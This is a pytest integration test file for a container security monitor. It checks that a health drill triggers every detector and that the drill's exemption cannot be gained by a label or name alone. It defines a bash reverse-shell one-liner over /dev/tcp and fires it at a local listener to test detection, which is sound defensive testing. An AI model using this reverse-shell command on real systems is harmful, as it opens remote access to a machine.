"""`coi health --drill` against the real monitor daemon and Incus: every probe detected with a
plausible latency, the drill container logged (never paused or killed) and gone afterwards,
other containers of the same COI home untouched; and the drill's exemption cannot be had by a
container that only carries the label or only the name.

Network targets: the drill's own listeners on the bridge address, and the bridge resolver for
a name under the bridge's own DNS domain (answered locally, never forwarded).
"""

from __future__ import annotations

import json
import os
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from coi_tui.health.drill import PROBES
from coi_tui.monitor.daemon import DRILL_INFIX, DRILL_KEY
from tests.integration.test_monitor import GATEWAY, Listener, Monitor, running_monitor

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")

CRITICAL_SHELL = "bash -i >& /dev/tcp/{host}/{port} 0>&1; sleep 30"


@pytest.fixture(scope="module")
def mon(
    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Monitor]:
    with running_monitor(f"{run_prefix}hd", incus, image, tmp_path_factory) as monitor:
        yield monitor


def watched(mon: Monitor, name: str) -> None:
    mon.events.wait(lambda m: m.get("type") == "watch" and m.get("container") == name, 30, "watch")


def test_drill_detects_every_probe_and_leaves_no_trace(mon: Monitor) -> None:
    # a session slot of the same COI home, watched by the same daemon, running meanwhile
    slot = mon.launch(f"{mon.prefix}{uuid.uuid4().hex[:8]}-1")
    watched(mon, slot)
    result = mon.coi("health", "--drill", "--json")
    assert result.returncode == 0, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["ok"] is True
    assert "reverse shell (command line): detected" in result.stderr  # progress lines
    by_detector = {p["detector"]: p for p in report["probes"]}
    assert list(by_detector) == [p.detector for p in PROBES]
    for probe in PROBES:
        row = by_detector[probe.detector]
        if probe.name == "hold-processes":  # process_count_threshold is 0 in this home
            assert row["status"] == "skipped" and "process_count_threshold" in row["note"]
            continue
        assert row["status"] == "detected", row
        assert row["rule_id"] in probe.rules, row
        assert 0 < row["latency_ms"] < probe.timeout * 1000, row
    assert report["summary"] == {"detected": len(PROBES) - 1, "missed": 0, "skipped": 1}

    drill = report["container"]
    assert drill.startswith(f"{mon.prefix}{DRILL_INFIX}")
    assert not mon.incus.instance_exists(drill)
    records = mon.events.threats(drill)
    assert any(r["level"] == "critical" and r["action"] == "logged" for r in records), records
    assert {r["action"] for r in records} <= {"logged", "alerted"}, records
    # nothing else of this home was judged or touched
    for instance in mon.incus.list_instances(mon.prefix):
        assert instance.status == "Running", instance.name
        assert mon.events.threats(instance.name) == [], instance.name
    assert mon.incus.status(slot) == "Running"


def spared(mon: Monitor, name: str) -> bool:
    """Whether the first HIGH or CRITICAL record of `name` was only logged (what a drill
    container gets) instead of pausing or killing it."""
    record = mon.events.wait(
        lambda m: (
            m.get("type") == "threat"
            and m.get("container") == name
            and m.get("level") in ("high", "critical")
        ),
        20,
        f"a high or critical threat on {name}",
    )
    if record["action"] == "logged":
        return True
    mon.assert_status(name, "Frozen" if record["action"] == "paused" else "Gone")
    return False


def test_the_drill_label_alone_does_not_spare_a_container(mon: Monitor) -> None:
    """The label on a container without the drill's name (set by whoever can reach Incus):
    a reverse shell there is still stopped."""
    name = mon.container()
    mon.incus.set_config(name, DRILL_KEY, "true")
    listener = Listener()
    try:
        mon.trigger(name, CRITICAL_SHELL.format(host=GATEWAY, port=listener.port))
        assert not spared(mon, name)
    finally:
        listener.close()


def test_the_drill_name_alone_does_not_spare_a_container(mon: Monitor) -> None:
    name = mon.launch(f"{mon.prefix}{DRILL_INFIX}{uuid.uuid4().hex[:8]}")
    watched(mon, name)
    mon.trigger(name, CRITICAL_SHELL.format(host=GATEWAY, port=9))
    assert not spared(mon, name)
